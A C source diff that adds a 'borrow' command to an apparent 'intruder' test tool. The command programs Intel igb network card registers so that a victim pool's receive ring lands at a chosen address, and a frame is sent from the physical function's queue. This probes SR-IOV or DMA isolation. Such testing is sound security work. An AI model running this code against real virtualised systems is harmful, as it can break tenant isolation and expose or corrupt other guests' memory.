@@ -235,10 +235,32 @@ static void run_resets(const uint64_t *args)
 	printf("intruder: igbresets %" PRIu64 " %s\n", args[0], good ? "done" : "hangs");
 }
 
+/* The victim's queue, which the physical function's registers reach: it is told that its slots are there, and
+ * given a frame of our own queue's. */
+static void run_borrow(const uint64_t *args)
+{
+	const bool good = ready(POOL_VICTIM);
+
+	mark();
+	if (good) {
+		mmio_write32(registers + VFTE, 1u << POOL_PF);
+		ring_start(receive_at(POOL_VICTIM), args[0], receives);
+		mmio_write32(receive_at(POOL_VICTIM) + RING_SPLIT, SPLIT_NONE);
+		mmio_write32(receive_at(POOL_VICTIM) + RING_CONTROL, QUEUE_ON);
+		mmio_write32(receive_at(POOL_VICTIM) + RING_TAIL, 1);
+		sends[0] = (struct slot){(uintptr_t)out, SEND_FRAME | FRAME | (uint64_t)FRAME << PAYLOAD_AT};
+		ring_start(send_at(POOL_PF), (uintptr_t)sends, sends);
+		mmio_write32(send_at(POOL_PF) + RING_CONTROL, QUEUE_ON);
+		mmio_write32(send_at(POOL_PF) + RING_TAIL, 1);
+	}
+	printf("intruder: borrow 0x%" PRIx64 " %s\n", args[0], good ? "done" : "hangs");
+}
+
 const struct command igb_commands[] = {
 	{"igb", "ADDRESS [1: WRITE, 2: READ]", 1, run_dma},
 	{"igbvf", "ADDRESS [1: WRITE, 2: READ]", 1, run_virtual},
 	{"igbrings", "ADDRESS", 1, run_rings},
+	{"borrow", "ADDRESS", 1, run_borrow},
 	{"igbresets", "COUNT", 1, run_resets},
 	{NULL, NULL, 0, NULL},
 };
